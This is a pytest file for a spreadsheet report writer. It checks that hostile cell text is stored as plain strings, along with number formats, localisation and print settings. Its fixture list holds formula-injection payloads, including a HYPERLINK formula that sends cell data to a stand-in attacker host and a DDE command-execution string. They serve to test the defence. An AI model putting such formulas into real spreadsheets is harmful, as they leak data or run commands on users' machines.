"""The workbook (SPEC §6, §8; ADVERSARIAL 8, 10, 12, 14)."""

from __future__ import annotations

import dataclasses
import io
import logging
import re
import zipfile
from datetime import date, datetime
from typing import Any

import pytest
from helpers_pack import make_pack, make_tickets
from openpyxl import load_workbook

from qbr.report import workbook_bytes
from qbr.report.pdf import formatters_for
from qbr.report.xlsx_cells import MAX_CELL_CHARS, clean_cell_text, excel_serial, utf16_len
from qbr.report.xlsx_sheet import Book, Column, Sheet

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "+49 30 1234567",
    "-1+2",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝")


def _hostile_pack() -> Any:
    base = make_tickets()
    tickets = tuple(
        dataclasses.replace(base[i], title=p, ticket_id=p, source_file=p, category=p)
        for i, p in enumerate(PAYLOADS)
    )
    incidents = tuple(
        dataclasses.replace(o, reasons=(PAYLOADS[i],), label=PAYLOADS[-1 - i])
        for i, o in enumerate(make_pack().incidents)
    )
    return make_pack(tickets=tickets, client_name=PAYLOADS[0], incidents=incidents)


def _xlsx(pack: Any) -> bytes:
    return workbook_bytes(pack, formatters_for(pack))


def _column(ws: Any, header: str) -> list[Any]:
    headers = [c.value for c in ws[1]]
    col = headers.index(header) + 1
    return [ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)]


def test_no_formula_is_ever_written() -> None:
    data = _xlsx(_hostile_pack())
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
        styles = z.read("xl/styles.xml").decode("utf-8")
    assert 'quotePrefix="1"' in styles


def test_hostile_text_round_trips_exactly_as_typed_strings() -> None:
    wb = load_workbook(io.BytesIO(_xlsx(_hostile_pack())))
    tickets = wb["Tickets"]
    for header in ("Title", "Ticket", "Category"):
        cells = _column(tickets, header)
        assert [c.value for c in cells] == PAYLOADS
        for cell in cells:
            assert cell.data_type == "s"
            assert bool(cell.quotePrefix) == cell.value.startswith(TRIGGERS), repr(cell.value)
    summary = wb["Summary"]
    assert summary["B2"].value == PAYLOADS[0] and summary["B2"].quotePrefix
    reasons = [c.value for c in _column(wb["Incidents"], "Recorded reason")]
    assert sorted(reasons) == sorted(PAYLOADS[:2])


def test_cells_are_inline_strings_in_the_xml() -> None:
    with zipfile.ZipFile(io.BytesIO(_xlsx(_hostile_pack()))) as z:
        xml = z.read("xl/worksheets/sheet2.xml").decode("utf-8")  # Tickets
    assert xml.count('t="inlineStr"') >= 3 * len(PAYLOADS)
    assert "&#13;=1+1" in xml  # CR kept as a reference, so it survives XML parsing


def test_numeric_columns_stay_numeric() -> None:
    wb = load_workbook(io.BytesIO(_xlsx(make_pack())))
    ws = wb["Tickets"]
    for header in ("Response took (min)", "Resolution took (min)", "Paused (min)"):
        cells = _column(ws, header)
        assert all(c.data_type == "n" and isinstance(c.value, int) for c in cells)
        assert all(c.number_format == "#,##0" for c in cells)
    created = _column(ws, "Opened")
    assert all(c.is_date and c.value.tzinfo is None for c in created)
    assert {c.number_format for c in created} == {"DD/MM/YYYY hh:mm"}


def test_summary_kpis_are_values_with_formats() -> None:
    wb = load_workbook(io.BytesIO(_xlsx(make_pack())), data_only=True)
    ws = wb["Summary"]
    rows = {(r[0].value, r[1].value): r for r in ws.iter_rows() if r[0].value}
    resp_all = rows[("Response", "All priorities")]
    attainment = resp_all[6]
    assert isinstance(attainment.value, float) and attainment.number_format == "0.0%"
    # Truncated like the PDF: 26 / 29 = 89.655… % is shown as 89.6 %, not 89.7 %.
    assert attainment.value == pytest.approx(0.896)
    labels = {r[0].value: r for r in ws.iter_rows() if r[0].value}
    assert labels["Credit"][1].value == pytest.approx(612.51)
    assert labels["Credit"][1].number_format == '"€"#,##0.00'
    assert labels["Critical systems together"][2].value == pytest.approx(0.9991)
    assert labels["Critical systems together"][2].number_format == "0.00%"
    # Nothing MSP-wide in the client's workbook (issue 7 §2): no file read count, no file.
    values = {c.value for sheet in wb for row in sheet.iter_rows() for c in row}
    assert 469 not in values and "autotask_tickets.csv" not in values


def test_german_workbook_has_german_labels() -> None:
    wb = load_workbook(io.BytesIO(_xlsx(make_pack(locale="de_DE"))))
    assert wb.sheetnames == ["Übersicht", "Tickets", "Verfehlte Ziele", "Störungen",
                             "Service Desk", "Entwicklung"]
    assert wb["Tickets"]["B1"].value == "Betreff"
    assert _column(wb["Tickets"], "Eröffnet")[0].number_format == "DD.MM.YYYY hh:mm"


def test_sheets_are_frozen_and_filtered() -> None:
    wb = load_workbook(io.BytesIO(_xlsx(make_pack())))
    ws = wb["Tickets"]
    assert ws.freeze_panes == "A2"
    assert re.fullmatch(r"A1:V\d+", ws.auto_filter.ref or "")  # 16 + 6 SPEC §3a columns
    # prints: landscape, one page wide, header row repeated, footer with client + quarter
    assert ws.page_setup.orientation == "landscape"
    # one page wide: fitToWidth 1 is the schema default (ECMA-376 §18.3.1.63), which the
    # writer leaves out, so openpyxl reads None; Excel and LibreOffice read 1
    assert ws.page_setup.fitToWidth in (1, None) and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$1"
    assert ws.oddFooter.left.text == "ACME GmbH · Q3 2026"


def test_illegal_characters_and_long_text() -> None:
    assert clean_cell_text("a\x00b\x0bc\x1bd") == "a\ufffdb\ufffdc\ufffdd"
    long = clean_cell_text("x" * 40_000)
    assert len(long) == MAX_CELL_CHARS and long.endswith("]")
    pack = make_pack(tickets=(dataclasses.replace(make_tickets()[0], title="bad\x0b\x00"),))
    wb = load_workbook(io.BytesIO(_xlsx(pack)))
    assert _column(wb["Tickets"], "Title")[0].value == "bad\ufffd\ufffd"


# ------------------------------------------------ the streaming writer (issue 7 §5)


def test_excel_serial_is_hand_worked() -> None:
    # 2025-01-01 is Excel day 45,658; 2025 has 365 days → 2026-01-01 = 46,023; Jan 31 +
    # Feb 28 + Mar 31 + Apr 30 + May 31 + Jun 30 = 181 days → 2026-07-01 = 46,204; 18:00
    # is 0.75 of a day.
    assert excel_serial(datetime(2026, 7, 1, 18, 0)) == 46_204.75
    assert excel_serial(date(2026, 7, 1)) == 46_204
    # Excel counts a 29 February 1900: 28 Feb 1900 is day 59, 1 March 1900 day 61.
    assert excel_serial(date(1900, 2, 28)) == 59 and excel_serial(date(1900, 3, 1)) == 61


def test_link_rows_and_streamed_rows_interleave_in_order() -> None:
    """Rows with a hyperlink go through XlsxWriter's API, the others are streamed as XML:
    every row must come back in order, with the link only on its own cell."""
    good = "https://psa.example.de/ticket/"
    base = make_tickets()
    tickets = tuple(dataclasses.replace(t, ticket_id=f"T{i:02d}" if i != 3 else "\r=1+1",
                                        url=f"{good}{i}" if i % 3 == 0 else None)
                    for i, t in enumerate(base))
    pack = make_pack(tickets=tickets, link_hosts=("psa.example.de",))
    wb = load_workbook(io.BytesIO(_xlsx(pack)))
    ws = wb["Tickets"]
    ids = [c.value for c in _column(ws, "Ticket")]
    expected = sorted(tickets, key=lambda t: (t.created_at, t.system, t.ticket_id))
    assert ids == [t.ticket_id for t in expected]
    assert [c.value for c in _column(ws, "Title")] == [t.title for t in expected]
    links = {c.value: c.hyperlink.target for c in _column(ws, "Ticket") if c.hyperlink}
    assert links == {t.ticket_id: t.url for t in expected if t.url}
    assert _column(ws, "Ticket")[[t.ticket_id for t in expected].index("\r=1+1")].quotePrefix
    assert ws.max_row == len(tickets) + 1


def test_literal_excel_escape_in_text_is_not_decoded() -> None:
    # Excel reads "_x0041_" in a cell as "A"; written as "_x005F_x0041_" it shows as typed.
    pack = make_pack(tickets=(dataclasses.replace(make_tickets()[0], title="see _x0041_"),))
    with zipfile.ZipFile(io.BytesIO(_xlsx(pack))) as z:
        xml = z.read("xl/worksheets/sheet2.xml").decode("utf-8")
    assert "see _x005F_x0041_" in xml


def test_text_is_cut_at_excels_limit_in_utf16_units() -> None:
    # An emoji is two UTF-16 units: 20,000 of them are 40,000 units > 32,767.
    text = clean_cell_text("😀" * 20_000)
    assert utf16_len(text) <= MAX_CELL_CHARS and text.endswith("]")


def test_a_number_that_is_not_finite_leaves_the_cell_empty_and_is_logged(
        caplog: pytest.LogCaptureFixture) -> None:
    buffer = io.BytesIO()
    book = Book(buffer)
    sheet = Sheet(book, "Data", "ACME · Q3 2026", "#123456", [Column("a", 10, "0.0%")])
    with caplog.at_level(logging.WARNING, logger="qbr.report"):
        sheet.line([float("nan")], where="ticket T-1")
        sheet.line([0.5])
    book.close()
    ws = load_workbook(io.BytesIO(buffer.getvalue()))["Data"]
    assert ws["A1"].value is None and ws["A2"].value == 0.5
    assert "Data ticket T-1 column 1" in caplog.text


def test_paper_follows_the_pack() -> None:
    # Excel's paperSize codes: 1 = Letter, 9 = A4 (issue 7 §3: Letter for en_US, en_CA).
    for paper, code in (("Letter", 1), ("A4", 9)):
        wb = load_workbook(io.BytesIO(_xlsx(make_pack(paper=paper))))
        assert {ws.page_setup.paperSize for ws in wb.worksheets} == {code}, paper
        assert not wb["Tickets"].print_options.gridLines  # gridlines are not printed
